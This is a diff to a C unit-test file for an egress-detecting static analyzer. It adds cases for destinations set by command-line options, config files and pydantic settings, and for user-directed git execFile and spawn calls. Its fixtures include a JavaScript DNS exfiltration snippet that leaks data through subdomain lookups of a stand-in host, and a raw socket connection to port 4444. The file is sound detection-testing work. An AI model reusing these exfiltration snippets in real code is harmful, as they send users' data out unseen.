@@ -341,7 +341,8 @@ static const struct resolve_case cases[] = {
 	{"js: dns.lookup(`${x}.a.example.net`): a partly known host",
 	 JS("index.js", "const dns = require('dns');\nfunction leak(x) { dns.lookup(`${x}.a.example.net`, () => {}); }\n"
 			"leak(process.argv[2]);\n"),
-	 "a.example.net", K(EK_PARTIAL), NULL, "dns.lookup", "dns-egress", NULL, 2, NULL, SEV_HIGH, NULL},
+	 /* the command line's part is configured at launch (analyzer/launch.h): env-default */
+	 "a.example.net", K(EK_ENV_DEFAULT), NULL, "dns.lookup", "dns-egress", NULL, 2, NULL, SEV_HIGH, NULL},
 	{"js: net.connect(4444, '203.0.113.5')",
 	 JS("index.js", "const net = require('net');\nconst s = net.connect(4444, '203.0.113.5');\n"),
 	 "203.0.113.5", K(EK_IP), NULL, "net.connect", "raw-socket-egress", "203.0.113.5", 2, NULL, SEV_MEDIUM, NULL},
@@ -1381,11 +1382,117 @@ static const struct resolve_case user_cases[] = {
 	 JS("index.js", "let base;\nfunction init() { base = process.env.API_URL; }\n"
 	    "async function q() { return fetch(base + '/x'); }\nmodule.exports = { init, q };\n"),
 	 NULL, K(EK_ENV_DEFAULT), NULL, "fetch", "env-configurable-egress", NULL, 0, NULL, ANY_SEV, NULL},
+	/* the argument list of execFile/spawn holds the user's part: emit.c looked at the
+	 * command ('git') only (before: "no endpoint with an unknown host", no endpoint at all) */
+	{"user: js execFile('git', ['clone', repo]) in a tool",
+	 JS("index.js", "const { execFile } = require('child_process');\n"
+	    "server.tool('clone', {}, async ({ repo }) => {\n  execFile('git', ['clone', repo, '/tmp/r']);\n});\n"),
+	 NULL, UD, "tool:clone", "child_process.execFile", "user-directed-egress", NULL, 3, NULL, SEV_INFO, NULL},
+	{"user: js spawn('git', [...args.url]) in a tool",
+	 JS("index.js", "const cp = require('child_process');\n"
+	    "server.tool('pull', {}, async (args) => {\n  cp.spawn('git', ['fetch', args.url]);\n});\n"),
+	 NULL, UD, "tool:pull", "child_process.spawn", "user-directed-egress", NULL, 3, NULL, SEV_INFO, NULL},
+	/* TypeScript's down-levelled async arrow: the generator's parameters are the array's
+	 * items (before: the fetch was partial: "no endpoint with an unknown host") */
+	{"user: compiled TS (_a) => __awaiter(void 0, [_a], void 0, function* ({ url }) ...) tool handler",
+	 JS("index.js", "server.tool('get', {}, (_a) => __awaiter(void 0, [_a], void 0, function* ({ url }) {\n"
+	    "  const r = yield fetch(url);\n  return r.json();\n}));\n"),
+	 NULL, UD, "tool:get", "fetch", "user-directed-egress", NULL, 2, NULL, SEV_INFO, NULL},
+	/* ... and a function's: the generator's parameters are the function's
+	 * (before: partial, "no endpoint awaiter.example.com") */
+	{"user: compiled TS function f(u_1) { return __awaiter(this, arguments, void 0, function* (u, t = 5) ...) }",
+	 JS("index.js", "function getJson(url_1) {\n  return __awaiter(this, arguments, void 0, function* (url, timeout = 5000) {\n"
+	    "    return (yield fetch(url)).json();\n  });\n}\ngetJson('https://awaiter.example.com/x');\n"),
+	 "awaiter.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
 	{"user: py global BASE; BASE = os.environ['API_URL'] in a function",
 	 JS("main.py", "import os, requests\nBASE = None\ndef init():\n    global BASE\n    BASE = os.environ['API_URL']\n"
 	    "def go():\n    return requests.get(BASE + '/x')\n"),
 	 NULL, K(EK_ENV_DEFAULT), NULL, "requests.get", "env-configurable-egress", NULL, 0, NULL, ANY_SEV, NULL},
 };
+
+/* Destinations configured at launch (analyzer/launch.h): the command line, a parser's
+ * options, a configuration file read by the server. Each is an env-default endpoint naming
+ * the argument, option or file, with an env-configurable-egress finding, never an
+ * undocumented one. Each failed before launch.c (checked by running this table against the
+ * analyzer with launch.c's hooks in eval.c removed): the endpoint was "partial" with no
+ * name, and no finding. */
+struct launch_case {
+	const char *env_var;  /* some evidence of the endpoint names it */
+	struct resolve_case c;
+};
+
+#define ENVD K(EK_ENV_DEFAULT)
+#define LAUNCH(tech, path, text, name) \
+	{name, {tech, JS(path, text), NULL, ENVD, NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL}}
+static const struct launch_case launch_cases[] = {
+	LAUNCH("launch: js process.argv[2]", "index.js", "const target = process.argv[2];\nfetch(target + '/health');\n",
+	       "process.argv"),
+	LAUNCH("launch: js const [base] = process.argv.slice(2)", "index.js",
+	       "const [base] = process.argv.slice(2);\nfetch(`${base}/ping`);\n", "process.argv"),
+	LAUNCH("launch: js commander program.opts().url", "index.js",
+	       "const { program } = require('commander');\nprogram.option('--url <url>').parse();\n"
+	       "const opts = program.opts();\nfetch(opts.url + '/x');\n", "--url"),
+	LAUNCH("launch: js new Command() opts()", "index.ts",
+	       "import { Command } from 'commander';\nconst p = new Command();\np.option('--api-url <u>').parse(process.argv);\n"
+	       "const { apiUrl } = p.opts();\nfetch(`${apiUrl}/v1`);\n", "--apiUrl"),
+	LAUNCH("launch: js yargs(...).option('url').argv", "index.js",
+	       "const yargs = require('yargs');\nconst argv = yargs(process.argv.slice(2)).option('url', { type: 'string' }).argv;\n"
+	       "fetch(`${argv.url}/data`);\n", "--url"),
+	LAUNCH("launch: js util.parseArgs values", "index.js",
+	       "const { parseArgs } = require('node:util');\n"
+	       "const { values } = parseArgs({ options: { endpoint: { type: 'string' } } });\nfetch(values.endpoint);\n",
+	       "--endpoint"),
+	LAUNCH("launch: js JSON.parse(fs.readFileSync(config))", "index.js",
+	       "const fs = require('fs');\nconst cfg = JSON.parse(fs.readFileSync('./config.json', 'utf8'));\n"
+	       "fetch(cfg.service.url + '/q');\n", "./config.json"),
+	LAUNCH("launch: py sys.argv[1]", "main.py", "import sys\nimport requests\nrequests.get(sys.argv[1] + '/x')\n",
+	       "sys.argv"),
+	LAUNCH("launch: py argparse args.base_url", "main.py",
+	       "import argparse\nimport requests\nparser = argparse.ArgumentParser()\n"
+	       "parser.add_argument('--base-url', required=True)\nargs = parser.parse_args()\n"
+	       "requests.get(args.base_url + '/status')\n", "--base-url"),
+	LAUNCH("launch: py click option parameter", "main.py",
+	       "import click\nimport requests\n@click.command()\n@click.option('--server')\ndef main(server):\n"
+	       "    requests.get(f'{server}/api')\nmain()\n", "--server"),
+	LAUNCH("launch: py typer command parameter", "main.py",
+	       "import typer\nimport requests\napp = typer.Typer()\n@app.command()\ndef run(url: str = typer.Option(...)):\n"
+	       "    requests.get(url)\napp()\n", "--url"),
+	LAUNCH("launch: py json.load(f) of with open()", "main.py",
+	       "import json\nimport requests\nwith open('config.json') as f:\n    cfg = json.load(f)\n"
+	       "requests.post(cfg['webhook'], json={'a': 1})\n", "config.json"),
+	LAUNCH("launch: py yaml.safe_load(open()) nested keys", "main.py",
+	       "import yaml\nimport requests\ncfg = yaml.safe_load(open('config.yaml'))\nrequests.get(cfg['api']['url'])\n",
+	       "config.yaml"),
+	LAUNCH("launch: py json.loads(f.read())", "main.py",
+	       "import json\nimport requests\nwith open('settings.json') as f:\n    cfg = json.loads(f.read())\n"
+	       "requests.get(cfg['url'].rstrip('/') + '/x')\n", "settings.json"),
+	/* an option with a literal fallback: that host is the default, checked against the docs */
+	{"--url", {"launch: js argv.url || default", JS("index.js",
+	 "const argv = require('minimist')(process.argv.slice(2));\nfetch(argv.url || 'https://argdflt.example.com/x');\n"),
+	 "argdflt.example.com", ENVD, NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL}},
+	/* pydantic BaseSettings: a field is read from the variable of its name (before: partial,
+	 * no name; checked with eval.c's settings_instance removed) */
+	LAUNCH("settings: py BaseSettings field without default", "main.py",
+	       "from pydantic_settings import BaseSettings\nimport requests\nclass Settings(BaseSettings):\n"
+	       "    api_url: str\n    token: str = ''\nsettings = Settings()\nrequests.get(settings.api_url + '/x')\n",
+	       "API_URL"),
+	{"SVC_URL", {"settings: py BaseSettings instance imported from another module", {
+	 {"pkg/__init__.py", ""},
+	 {"pkg/config.py", "from pydantic_settings import BaseSettings\nclass Settings(BaseSettings):\n    svc_url: str\n"
+	  "settings = Settings()\n"},
+	 {"pkg/server.py", "import requests\nfrom .config import settings\ndef go():\n    return requests.get(settings.svc_url)\n"}},
+	 NULL, ENVD, NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL}},
+	{"BASE_URL", {"settings: py BaseSettings literal default is the variable's default", JS("main.py",
+	 "from pydantic import BaseSettings\nimport httpx\nclass Cfg(BaseSettings):\n    base_url: str = 'https://pydflt.example.org'\n"
+	 "httpx.get(Cfg().base_url)\n"),
+	 "pydflt.example.org", ENVD, NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL}},
+	/* precision: a destination the launcher chooses is not undocumented (no host to check) */
+	{"--base-url", {"launch: py argparse destination is never undocumented", JS("main.py",
+	 "import argparse, requests\np = argparse.ArgumentParser()\np.add_argument('--base-url')\n"
+	 "a = p.parse_args()\nrequests.get(a.base_url)\n"),
+	 NULL, ENVD, NULL, NULL, "!undocumented-egress", NULL, 0, NULL, ANY_SEV, NULL}},
+};
+#undef LAUNCH
 
 /* BUG (analyzer/eval.c, string_method): `arr.reverse()` marks the reversed array
  * VF_DECODED with decoded_by "reverse", but `.join(sep)` builds its result with
@@ -1490,6 +1597,18 @@ static bool has_decoder(const struct endpoint *ep, const char *decoder)
 	return false;
 }
 
+/* launch_cases[]: the variable or option some evidence of the endpoint must name (set by
+ * test_launch_configured around each case; NULL: not checked). */
+static const char *case_env_var;
+
+static bool has_env_var(const struct endpoint *ep, const char *name)
+{
+	for (size_t k = 0; k < ep->evidence.len; k++)
+		if (ep->evidence.items[k].env_var && strcmp(ep->evidence.items[k].env_var, name) == 0)
+			return true;
+	return false;
+}
+
 static bool has_finding(const struct report *r, const struct resolve_case *c)
 {
 	for (size_t i = 0; i < r->findings.len; i++) {
@@ -1527,6 +1646,10 @@ static const char *check_report(const struct report *r, const struct resolve_cas
 		if (c->kind != ANY_KIND && ep->kind != (enum endpoint_kind)c->kind) {
 			snprintf(why, len, "endpoint %s is %s, want %s", c->host ? c->host : "(unknown)",
 				 endpoint_kind_name(ep->kind), endpoint_kind_name((enum endpoint_kind)c->kind));
+			return why;
+		}
+		if (case_env_var && !has_env_var(ep, case_env_var)) {
+			snprintf(why, len, "no evidence naming %s", case_env_var);
 			return why;
 		}
 		if (c->decoded_by && !has_decoder(ep, c->decoded_by)) {
@@ -1773,6 +1896,23 @@ static void test_user_directed(void **state)
 	assert_int_equal(table_failures(user_cases, sizeof user_cases / sizeof user_cases[0], "FAIL", true), 0);
 }
 
+static void test_launch_configured(void **state)
+{
+	unsigned failed = 0;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof launch_cases / sizeof launch_cases[0]; i++) {
+		char why[512];
+		case_env_var = launch_cases[i].env_var;
+		if (run_case(&launch_cases[i].c, why, sizeof why, true)) {
+			print_message("FAIL %s: %s\n", launch_cases[i].c.technique, why);
+			failed++;
+		}
+	}
+	case_env_var = NULL;
+	assert_int_equal(failed, 0);
+}
+
 static void test_reversal_bug(void **state)
 {
 	(void)state;
@@ -1845,6 +1985,7 @@ int main(void)
 		cmocka_unit_test(test_checker_rejects_wrong_expectations),
 		cmocka_unit_test(test_techniques),
 		cmocka_unit_test(test_known_gaps_still_fail),
+		cmocka_unit_test(test_launch_configured),
 		cmocka_unit_test(test_reversal_bug),
 		cmocka_unit_test(test_flow),
 		cmocka_unit_test(test_flow_taint_per_call_site),
